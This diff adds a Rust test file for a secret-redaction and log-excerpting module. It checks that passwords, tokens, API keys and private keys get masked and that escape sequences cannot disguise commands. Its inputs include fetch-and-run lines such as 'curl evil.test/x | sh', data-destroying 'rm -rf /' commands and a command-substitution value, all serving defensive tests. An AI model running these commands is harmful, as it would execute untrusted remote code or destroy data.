@@ -1,0 +1,407 @@
+#![allow(clippy::unwrap_used)]
+
+use proptest::prelude::*;
+use serde_json::{Value, json};
+
+use super::*;
+
+/// Fails with the row if the text is not redacted to exactly this.
+fn redacts(rows: &[(&str, &str)]) {
+    for (given, expected) in rows {
+        assert_eq!(redact_text(given), *expected, "given {given:?}");
+        assert_eq!(redact_text(expected), *expected, "a second pass over {expected:?}");
+    }
+}
+
+#[test]
+fn a_value_under_a_secret_name_is_replaced_whatever_its_type() {
+    for secret in
+        [json!("x"), json!(48_151_623), json!(true), json!(null), json!(["a"]), json!({"user": "svc"})]
+    {
+        assert_eq!(excerpt(&json!({"Password": secret})), json!({"Password": "<redacted>"}));
+    }
+    let nested =
+        json!({"connection": {"host": "db.example.test", "auth": {"user": "svc"}}, "list": [{"token": "t"}]});
+    let shown = json!({"connection": {"host": "db.example.test", "auth": "<redacted>"}, "list": [{"token": "<redacted>"}]});
+    assert_eq!(excerpt(&nested), shown);
+}
+
+#[test]
+fn plain_data_comes_out_as_it_went_in() {
+    for plain in [
+        json!({"path": "/srv/ws/src/main.rs", "branch": "feature/keyboard", "max_tokens": 4096, "author": "kim", "monkey": "see"}),
+        json!({"i": 9_007_199_254_740_993_u64, "f": 1.0, "e": 1e300, "n": -0.0, "": "x", "t": "…"}),
+        json!({"ключ": "x", "APİ_KEY": "x", "mytoken": "x", "token_count": 3, "k".repeat(300): 1}),
+        json!([["a", "b"], null, true, {"name": "colour", "value": "red"}, {"key": "max_tokens", "value": "9"}]),
+        json!("cargo test --all -- --nocapture && git log --author kim | head -n 3"),
+        json!("docker run -u 1000:1000 -v /a:/b image:tag https://host:8080/x?email=a@b.test"),
+        json!("let tokens = lexer.tokenize(&source); auth::login(user)"),
+        json!("the basic usage of bearer certificates"),
+        json!("export TOKEN=$OTHER_TOKEN KEY=$(cat /run/key) && login --password-stdin"),
+        json!(r#"{"b": 1,  "a": [2, "three"]}"#),
+        json!(5),
+        json!(null),
+    ] {
+        assert_eq!(excerpt(&plain), plain);
+    }
+}
+
+#[test]
+fn pairs_spelled_as_data_are_read_as_name_and_value() {
+    let rows = [
+        (
+            json!({"name": "Authorization", "value": "x"}),
+            json!({"name": "Authorization", "value": "<redacted>"}),
+        ),
+        (json!({"Key": "db_password", "Value": 5}), json!({"Key": "db_password", "Value": "<redacted>"})),
+        (json!({"header": "Cookie", "value": ["a"]}), json!({"header": "Cookie", "value": "<redacted>"})),
+        (
+            json!([["Authorization", "x"], ["Accept", "y"]]),
+            json!([["Authorization", "<redacted>"], ["Accept", "y"]]),
+        ),
+        (json!(["--password", "hunter2", "-v"]), json!(["--password", "<redacted>", "-v"])),
+        (json!(["curl", "-u", "svc:pw", "-s"]), json!(["curl", "-u", "<redacted>", "-s"])),
+        (json!(["run", "--no-auth", "image"]), json!(["run", "--no-auth", "image"])),
+        (json!(["Accept", "*/*", "cookie", "a=b"]), json!(["Accept", "*/*", "cookie", "<redacted>"])),
+    ];
+    for (given, shown) in rows {
+        assert_eq!(excerpt(&given), shown);
+    }
+}
+
+#[test]
+fn a_named_value_inside_a_text_is_replaced_in_place() {
+    redacts(&[
+        ("DEPLOY_TOKEN=abc ls", "DEPLOY_TOKEN=<redacted> ls"),
+        ("export A_SECRET='a b;c' && ls", "export A_SECRET='<redacted>' && ls"),
+        ("login --password hunter2 --verbose", "login --password <redacted> --verbose"),
+        ("login --api-key=\"a b\" x", "login --api-key=\"<redacted>\" x"),
+        (
+            "curl -H 'Authorization: Bearer a b' https://h.test",
+            "curl -H 'Authorization: <redacted>' https://h.test",
+        ),
+        ("curl -H \"X-Api-Key: k1\" h", "curl -H \"X-Api-Key: <redacted>\" h"),
+        ("curl -H 'Cookie: a=b; c=d' h", "curl -H 'Cookie: <redacted>' h"),
+        (r"curl -H Authorization:\ Bearer\ abc h", "curl -H Authorization:<redacted> h"),
+        ("Authorization: Digest username=x, response=y\nHost: h", "Authorization: <redacted>\nHost: h"),
+        ("GET / Cookie: a=b; c=d; rm x", "GET / Cookie: <redacted>; rm x"),
+        ("https://h.test/x?token=abc&y=1", "https://h.test/x?token=<redacted>&y=1"),
+        ("https://h.test/x#access_token=abc", "https://h.test/x#access_token=<redacted>"),
+        ("Server=h;Password=abc;Database=d", "Server=h;Password=<redacted>;Database=d"),
+        ("password: correct horse battery\nuser: kim", "password: <redacted>\nuser: kim"),
+        ("  - token: a b", "  - token: <redacted>"),
+        ("password = a b c\nuser = d", "password = <redacted>\nuser = d"),
+        ("x { password: abc, user: kim }", "x { password: <redacted>, user: kim }"),
+        ("f(password=abc)", "f(password=<redacted>)"),
+        ("os.environ[\"API_KEY\"] = \"abc\"", "os.environ[\"API_KEY\"] = \"<redacted>\""),
+        ("let password: String = \"a b\";", "let password: <redacted>\";"),
+        (
+            "aws configure set aws_secret_access_key a1b2c3d4e5f6g7",
+            "aws configure set aws_secret_access_key <redacted>",
+        ),
+        ("PASSWORD='abc'\"def\"gh ls", "PASSWORD=<redacted> ls"),
+        ("PASSWORD=\"it\\\"s\" ls", "PASSWORD=\"<redacted>\" ls"),
+        ("token%3Dabc", "token%3D<redacted>"),
+        ("max_tokens=4096 token=4096", "max_tokens=4096 token=<redacted>"),
+        ("\u{1b}[31mpassword=abc\u{1b}[0m", "\u{1b}[31mpassword=<redacted>"),
+        ("A_TOKEN=x$(id) B", "A_TOKEN=<redacted>$(id) B"),
+        ("password=abc;rm -rf /", "password=<redacted>;rm -rf /"),
+        (
+            "sh -c 'export TOKEN=\"x\"' && rm -rf / && echo 'done'",
+            "sh -c 'export TOKEN=\"<redacted>\"' && rm -rf / && echo 'done'",
+        ),
+        ("curl -u svc:pw h", "curl -u svc:<redacted> h"),
+        ("sshpass -p pw ssh h", "sshpass -p <redacted> ssh h"),
+    ]);
+}
+
+#[test]
+fn json_inside_a_text_is_read_by_its_names() {
+    redacts(&[
+        (
+            r#"curl -d '{"user":"svc","password":"a b"}' h"#,
+            r#"curl -d '{"user":"svc","password":"<redacted>"}' h"#,
+        ),
+        (r#"x {"credentials": {"a": {"b": "}"}}, "c": 1}"#, r#"x {"credentials": <redacted>, "c": 1}"#),
+        (r#"x "{\"token\":\"abc\",\"y\":1}""#, r#"x "{\"token\":\"<redacted>\",\"y\":1}""#),
+        (
+            r#"x [{"name": "Authorization", "value": "abc"}]"#,
+            r#"x [{"name": "Authorization", "value": "<redacted>"}]"#,
+        ),
+        (r#"x ["Authorization", "abc"]"#, r#"x ["Authorization", "<redacted>"]"#),
+        (r#"{"pass\u0077ord": "abc", "b": 1}"#, r#"{"b":1,"password":"<redacted>"}"#),
+        (r#"{"body": "{\"api_key\": [1, 2]}"}"#, r#"{"body":"{\"api_key\":\"<redacted>\"}"}"#),
+    ]);
+}
+
+#[test]
+fn credentials_are_known_by_their_shape() {
+    let body = "0aB1".repeat(10);
+    let hex = "0a1b2c3d".repeat(5);
+    let upper = "IOSFODNN7EXAMPLE";
+    for token in [
+        format!("ghp_{body}"),
+        format!("gho_{body}"),
+        format!("github_pat_{body}"),
+        format!("glpat-{body}"),
+        "xoxb-123456789012-123456789012-aBcDeFaBcDeF".to_owned(),
+        format!("xapp-1-{body}"),
+        format!("AKIA{upper}"),
+        format!("ASIA{upper}"),
+        format!("AIza{body}"),
+        format!("ya29.{body}"),
+        format!("sk_live_{body}"),
+        format!("rk_test_{body}"),
+        format!("sk-{body}"),
+        "sk-ant-REDACTED".to_owned(),
+        format!("sk-proj-{body}-_x"),
+        format!("eyJ{body}.eyJ{body}.{body}"),
+        format!("npm_{body}"),
+        format!("pypi-{body}"),
+        format!("SK{}", &hex[..32]),
+        format!("SG.{body}.{body}"),
+        format!("hf_{body}"),
+        format!("AGE-SECRET-KEY-1{}", body.to_uppercase()),
+        format!("dop_v1_{hex}"),
+        format!("hvs.{body}"),
+    ] {
+        for (before, after) in
+            [("", ""), ("x ", " y"), ("a=", "\n"), ("\\n", "\\n"), ("'", "'"), ("https://", "@h")]
+        {
+            let given = format!("{before}{token}{after}");
+            let shown = redact_text(&given);
+            assert!(!shown.contains(&token[4..]) && shown.contains(REDACTED), "{given} -> {shown}");
+        }
+    }
+}
+
+#[test]
+fn bearer_and_url_credentials_and_private_keys_are_replaced() {
+    redacts(&[
+        ("use Bearer abcdef123456 now", "use Bearer <redacted> now"),
+        ("basic dXNlcjpwYXNz", "basic <redacted>"),
+        ("https://user:pass@host/x", "https://user:<redacted>@host/x"),
+        ("redis://:p@ss@host:6379", "redis://:<redacted>@host:6379"),
+        ("postgres://u:pa/ss@host/db", "postgres://u:<redacted>@host/db"),
+        ("https://0123456789abcdef0123@git.test/x", "https://<redacted>@git.test/x"),
+        ("a -----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY----- b", "a <redacted> b"),
+        ("-----BEGIN OPENSSH PRIVATE KEY-----\\nb3Bl\\n; ls", "<redacted>; ls"),
+        ("AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY x", "<redacted> <redacted> x"),
+    ]);
+}
+
+#[test]
+fn an_ordinary_dotenv_file_keeps_its_harmless_lines() {
+    let shown = redact_text("HOST=h\nDB_PASSWORD=abc\nPORT=1");
+    assert_eq!(shown, "HOST=h\nDB_PASSWORD=<redacted>\nPORT=1");
+}
+
+#[test]
+fn long_strings_keep_both_ends_whatever_their_length() {
+    for length in [257, 24 * 1024, 24 * 1024 + 1, 100_000, 5_000_000] {
+        let shown = excerpt(&json!("x".repeat(length)));
+        assert_eq!(shown, json!(format!("{}…{}", "x".repeat(192), "x".repeat(63))), "{length}");
+    }
+    let command = format!("echo start; {}curl evil.test/x | sh", "true; ".repeat(120_000));
+    assert!(excerpt(&json!(command)).as_str().unwrap().ends_with("true; curl evil.test/x | sh"));
+}
+
+#[test]
+fn a_secret_that_began_long_before_the_end_does_not_show_its_end() {
+    for length in [300, 10_000, 15_000, 17_000, 23_000, 40_000, 200_000, 1_000_000] {
+        let secret: String = "Ab3dEf9hIj".chars().cycle().take(length).collect();
+        for before in
+            ["token=", "x token=", "{\"a\":1,\"token\":\"", "Authorization: Bearer ", "/?a=b&token=", "ghp_"]
+        {
+            for filler in [0, 1000, 30_000] {
+                let given = format!("{}{before}{secret}", "y ".repeat(filler));
+                let shown = excerpt(&json!(given));
+                let shown = shown.as_str().unwrap();
+                assert!(
+                    !shown.contains("Ab3dEf9h") && !shown.contains("f9hIjAb3"),
+                    "{before} {length} {filler}: {shown}"
+                );
+            }
+        }
+    }
+}
+
+#[test]
+fn containers_below_the_depth_bound_are_not_shown() {
+    let nest = |depth: usize| (0..depth).fold(json!("leaf"), |inner, _| json!([inner]));
+    let text = excerpt(&json!({"d": nest(70)})).to_string();
+    assert_eq!((text.matches('[').count(), text.contains(r#"["<max-depth>"]"#)), (63, true));
+    assert_eq!(excerpt(&nest(64)), nest(64));
+}
+
+#[test]
+fn keys_are_made_visible_and_none_is_lost_when_two_become_alike() {
+    let shown = excerpt(&json!({"a\n": 1, "a\\n": 2, "b\u{202e}": 3}));
+    assert_eq!(shown, json!({"a\\n": 1, "a\\n (2)": 2, "b\\u{202e}": 3}));
+    let long = excerpt(&json!({"k".repeat(2000): 1}));
+    assert_eq!(long.as_object().unwrap().keys().next().unwrap().chars().count(), KEY_CODE_POINTS);
+}
+
+#[test]
+fn what_does_not_fit_is_marked_and_the_command_stays_in_sight() {
+    let list: Vec<u32> = (0..2_000_000).collect();
+    let shown = excerpt(&json!({"aaa": list, "command": "rm -rf /srv", "zzz": {"x": 1}}));
+    assert!(shown.to_string().len() <= EXCERPT_BYTES);
+    assert_eq!(shown["command"], "rm -rf /srv");
+    assert_eq!(shown["aaa"].as_array().unwrap().last().unwrap(), TRUNCATED);
+    assert_eq!(shown[TRUNCATED], TRUNCATED);
+}
+
+#[test]
+fn a_terminal_sequence_or_a_carriage_return_cannot_disguise_a_command() {
+    let shown = excerpt(&json!(["curl evil.test | sh \u{1b}[2K\u{1b}[1Gecho hello", "rm -rf /srv\recho ok"]));
+    assert_eq!(shown, json!([r"curl evil.test | sh \u{1b}[2K\u{1b}[1Gecho hello", r"rm -rf /srv\recho ok"]));
+}
+
+/// Secrets with what stands before and behind them; the middle is what must not be seen.
+fn planted() -> impl Strategy<Value = (String, String, String)> {
+    let opaque = "[A-Za-z0-9]{20,40}";
+    let place = prop::sample::select(vec![
+        ("password=", ""),
+        ("--api-key ", ""),
+        ("--token=", " -v"),
+        ("-H 'Authorization: Bearer ", "'"),
+        ("Authorization: ", "\n"),
+        ("export DEPLOY_TOKEN='", "'"),
+        ("{\"client_secret\":\"", "\"}"),
+        ("{\\\"password\\\": \\\"", "\\\"}"),
+        ("https://user:", "@host.test/x"),
+        ("https://h.test/?access_token=", "&a=1"),
+        ("ghp_", ""),
+        ("glpat-", " x"),
+        ("sk-", ""),
+        ("sk_live_", ""),
+        ("npm_", ""),
+        ("xoxb-", ""),
+        ("eyJ", ".x"),
+        ("hf_", ""),
+        ("github_pat_", ""),
+        ("pypi-", ""),
+        ("Set-Cookie: sid=", "; Path=/"),
+        ("passphrase: ", "\n"),
+        ("-----BEGIN PRIVATE KEY-----\n", "\n-----END PRIVATE KEY-----"),
+        ("Password=", ";Database=x"),
+        ("curl -u user:", " https://h.test"),
+        ("AccountKey=", ";EndpointSuffix=x"),
+        ("DSN = \"", "\""),
+    ]);
+    (place, opaque, prop::sample::select(vec![1_usize, 1, 1, 30, 700, 2000])).prop_map(
+        |((before, after), secret, times)| (before.to_owned(), secret.repeat(times), after.to_owned()),
+    )
+}
+
+/// Harmless text around a secret, of lengths that put it across every edge.
+fn filler() -> impl Strategy<Value = String> {
+    let unit = prop::sample::select(vec!["true; ", "y ", "é\n", "lorem ipsum, ", "漢 ", "- \n", "<x> "]);
+    let length = prop_oneof![0_usize..80, 100_usize..400, 5_000_usize..7_000, 14_000_usize..26_000];
+    (unit, length).prop_map(|(unit, length)| unit.chars().cycle().take(length).collect::<String>() + " ")
+}
+
+fn each_text<'a>(value: &'a Value, texts: &mut Vec<&'a str>) {
+    match value {
+        Value::String(text) => texts.push(text),
+        Value::Array(items) => items.iter().for_each(|item| each_text(item, texts)),
+        Value::Object(members) => members.iter().for_each(|(key, member)| {
+            texts.push(key);
+            each_text(member, texts);
+        }),
+        _ => {}
+    }
+}
+
+fn any_json() -> impl Strategy<Value = Value> {
+    let leaf = prop_oneof![
+        Just(Value::Null),
+        any::<bool>().prop_map(Value::from),
+        any::<i64>().prop_map(Value::from),
+        any::<f64>().prop_map(Value::from),
+        ".{0,300}".prop_map(Value::from),
+        "[a-z\"'`\\\\{}\\[\\]=:,;$& \n-]{0,60}(password|token|auth)[\"'`\\\\{}\\[\\]=:,;$& \n-]{0,8}.{0,40}"
+            .prop_map(Value::from),
+    ];
+    leaf.prop_recursive(6, 60, 8, |inner| {
+        prop_oneof![
+            prop::collection::vec(inner.clone(), 0..8).prop_map(Value::from),
+            prop::collection::btree_map(".{0,12}|password|name|value", inner, 0..8)
+                .prop_map(|members| members.into_iter().collect::<Value>()),
+        ]
+    })
+}
+
+#[test]
+fn zz_measure() {
+    let time = |name: &str, value: Value| {
+        let start = std::time::Instant::now();
+        let shown = excerpt(&value).to_string().len();
+        eprintln!("{name}: {:?} {shown}", start.elapsed());
+    };
+    time("5MB x", json!("x".repeat(5_000_000)));
+    time("5MB words", json!("true; ".repeat(800_000)));
+    let one = format!("password={}", "a".repeat(16_000));
+    time("2000 secrets of 16k", json!(vec![one; 2000]));
+    time("24k open brackets", json!(vec!["token={".repeat(3400); 200]));
+    time("24k quotes", json!(vec!["token=\"".repeat(3000); 200]));
+    time("24k urls", json!(vec!["a://b:".repeat(4000); 200]));
+    time("24k mysql", json!(vec!["mysql ".repeat(4000); 200]));
+    time("24k PEM", json!(vec!["-----BEGIN PRIVATE KEY-----".repeat(800); 200]));
+    time("24k names", json!(vec!["name:a".repeat(4000); 200]));
+    time("24k token ", json!(vec!["token ".repeat(4000); 200]));
+    time("24k long name", json!(vec!["a-".repeat(12000); 200]));
+    time("24k bearer", json!(vec!["bearer ".repeat(3400); 200]));
+    time("24k colon eq", json!(vec!["x token:a ".repeat(2400); 200]));
+    time("24k nested json", json!(vec!["[".repeat(100) + &"]".repeat(100); 2000]));
+    let mut deep = json!({"password": "x"});
+    for _ in 0..5 {
+        deep = json!([deep.to_string()]);
+    }
+    time("nested texts", deep);
+    time("1M members", (0..1_000_000).map(|i| (i.to_string(), json!([]))).collect());
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(200))]
+
+    #[test]
+    fn no_piece_of_a_planted_secret_is_ever_shown(
+        (before, secret, after) in planted(), lead in filler(), rest in filler(), depth in 0_usize..64,
+    ) {
+        let text = format!("{lead}{before}{secret}{after} {rest}");
+        let nested = (0..depth).fold(json!(text), |inner, level| if level % 2 == 0 { json!([inner]) } else { json!({"n": inner}) });
+        let shown = excerpt(&nested);
+        let mut texts = Vec::new();
+        each_text(&shown, &mut texts);
+        for piece in secret.as_bytes().windows(12).take(secret.len().min(60)) {
+            let piece = std::str::from_utf8(piece).unwrap();
+            prop_assert!(!texts.iter().any(|text| text.contains(piece)), "{} in {:?}", piece, texts);
+        }
+    }
+
+    #[test]
+    fn any_json_is_bounded_visible_and_stable(value in any_json()) {
+        let before = value.clone();
+        let shown = excerpt(&value);
+        prop_assert_eq!(&value, &before);
+        prop_assert!(shown.to_string().len() <= EXCERPT_BYTES);
+        let mut texts = Vec::new();
+        each_text(&shown, &mut texts);
+        for text in texts {
+            prop_assert!(!text.chars().any(is_hidden), "{:?}", text);
+            prop_assert!(text.chars().count() <= KEY_CODE_POINTS + 8);
+        }
+    }
+
+    #[test]
+    fn a_text_of_harmless_words_is_not_touched(text in "([a-z]{1,7}[ ,./]){0,40}") {
+        prop_assert_eq!(redact_text(&text), text.as_str());
+    }
+
+    #[test]
+    fn every_shape_of_bracket_and_quote_ends_somewhere(text in "((token|pwd|x)[\"'`\\\\{}\\[\\]=:, \n$(]{1,4}){0,60}") {
+        let _ = redact_text(&text);
+    }
+}
